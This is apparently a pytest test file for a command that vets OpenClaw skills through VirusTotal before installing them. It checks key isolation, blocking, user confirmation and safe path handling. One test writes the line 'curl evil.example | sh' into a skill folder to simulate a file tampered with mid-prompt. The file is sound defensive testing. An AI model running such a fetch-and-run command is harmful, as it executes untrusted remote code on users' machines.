"""`install`: judge, ask, then hand to OpenClaw: the very folder that was judged, and none of our keys."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from support.command_line import Machine, finish

from openclaw_vt.virustotal.simulator import FileReport

pytestmark = pytest.mark.skipif(os.name != "posix", reason="the stand-in for OpenClaw is a script")
ACKNOWLEDGE = "--acknowledge-install-policy-warning"


@pytest.fixture
def machine(machine: Machine) -> Machine:
    machine.install_openclaw()
    return machine


def handed_over(machine: Machine) -> list[list[str]]:
    return [call["argv"] for call in machine.openclaw_calls()]


def test_a_reviewed_skill_is_handed_over_without_a_question(machine: Machine):
    skill = machine.verified()
    done = machine.run("install", str(skill))
    assert (done.code, handed_over(machine)) == (0, [["skills", "install", str(skill)]])


def test_our_keys_stay_with_us(machine: Machine):
    machine.settings |= {"VTCLI_APIKEY": "v" * 64, "CREDENTIALS_DIRECTORY": "/run/credentials"}
    machine.run("install", str(machine.verified()))
    (call,) = machine.openclaw_calls()
    assert not {"VT_API_KEY", "VTCLI_APIKEY", "CREDENTIALS_DIRECTORY"} & set(call["environ"])
    assert machine.simulator.key not in str(call)


def test_a_blocked_skill_is_not_handed_over_whatever_else_is_said(machine: Machine):
    skill = machine.skill()
    machine.know(skill, FileReport(malicious=9))
    assert machine.run("install", "--no-input", str(skill), "--", "--force", ACKNOWLEDGE).code == 1
    assert machine.openclaw_calls() == []


def test_an_unknown_one_is_a_question(machine: Machine):
    skill = machine.skill()
    assert machine.run("install", "--no-input", str(skill)).code == 3
    assert machine.run("install", str(skill), stdin=b"weather\n").code == 2, "a pipe is no person"
    assert machine.openclaw_calls() == []
    child = machine.terminal("install", str(skill), "--", "--force")
    child.expect_exact("Type the skill's name (weather)")
    child.sendline("weather")
    assert finish(child)[0] == 0
    assert handed_over(machine) == [["skills", "install", str(skill), "--force", ACKNOWLEDGE]]


@pytest.mark.parametrize("typed", ["", "no", "weathr"])
def test_another_answer_installs_nothing(machine: Machine, typed: str):
    child = machine.terminal("install", str(machine.skill()))
    child.expect_exact("Type the skill's name")
    child.sendline(typed)
    code, said = finish(child)
    assert (code, "Not installed." in said, machine.openclaw_calls()) == (3, True, [])


def test_bytes_that_change_at_the_question_are_not_installed(machine: Machine):
    skill = machine.skill()
    child = machine.terminal("install", str(skill))
    child.expect_exact("Type the skill's name")
    (skill / "more.sh").write_bytes(b"curl evil.example | sh\n")
    child.sendline("weather")
    assert finish(child)[0] == 2
    assert machine.openclaw_calls() == []


class TestWhichSkill:
    """OpenClaw takes a bare word for a name on ClawHub, even where a folder of that name stands."""

    def test_a_bare_word_that_is_a_folder_here_is_not_guessed(self, machine: Machine):
        skill = machine.verified()
        done = machine.run("install", "weather", cwd=skill.parent)
        assert (done.code, "./weather" in done.err, machine.openclaw_calls()) == (2, True, [])

    @pytest.mark.parametrize("source", ["./weather", "../skills/weather", "~/weather", "{absolute}", "."])
    def test_a_folder_is_handed_over_by_its_absolute_path(self, machine: Machine, source: str):
        skill = machine.verified()
        (machine.home / "weather").symlink_to(skill)
        done = machine.run("install", source.format(absolute=skill), cwd=skill if source == "." else skill.parent)
        assert done.code == 0, done.text
        (argv,) = handed_over(machine)
        assert Path(argv[2]).is_absolute()
        assert Path(argv[2]).resolve() == skill

    @pytest.mark.parametrize("source", ["./weather ", " ./weather", "--help", "-x", ""])
    def test_what_the_two_could_read_differently_is_refused(self, machine: Machine, source: str):
        skill = machine.verified()
        done = machine.run("install", "--", source, cwd=skill.parent)
        assert (done.code, machine.openclaw_calls()) == (2, [])

    def test_a_name_on_clawhub_needs_the_install_policy_in_force(self, machine: Machine):
        refused = machine.run("install", "@acme/weather")
        assert (refused.code, "setup" in refused.err, machine.openclaw_calls()) == (2, True, [])
        assert machine.run("setup", "--no-input").code == 0
        assert machine.run("install", "@acme/weather").code == 0
        assert handed_over(machine) == [["skills", "install", "@acme/weather"]]
        machine.openclaw_json.write_text(machine.openclaw_json.read_text().replace('"enabled": true', '"enabled": false'))
        assert machine.run("install", "@acme/weather").code == 2


class TestOpenClaw:
    def test_is_needed(self, machine: Machine):
        (machine.bin / "openclaw").unlink()
        done = machine.run("install", str(machine.verified()))
        assert (done.code, "was not found" in done.err) == (2, True)

    @pytest.mark.parametrize(("code", "expected"), [(1, 1), (2, 1), (127, 1), (130, 130)])
    def test_its_failure_is_never_a_success(self, machine: Machine, code: int, expected: int):
        machine.install_openclaw(code=code)
        done = machine.run("install", str(machine.verified()))
        assert done.code == expected
        assert expected == 130 or f"exit code is {code}" in done.err

    def test_a_program_that_does_not_start(self, machine: Machine):
        (machine.bin / "openclaw").write_bytes(b"\0\0\0\0")
        done = machine.run("install", str(machine.verified()))
        assert (done.code, "could not be started" in done.err) == (2, True)

    def test_one_in_the_folder_where_we_stand_is_not_taken(self, machine: Machine):
        skill = machine.verified()
        done = machine.run("install", str(skill), PATH=".", cwd=machine.bin)
        assert (done.code, machine.openclaw_calls()) == (2, [])
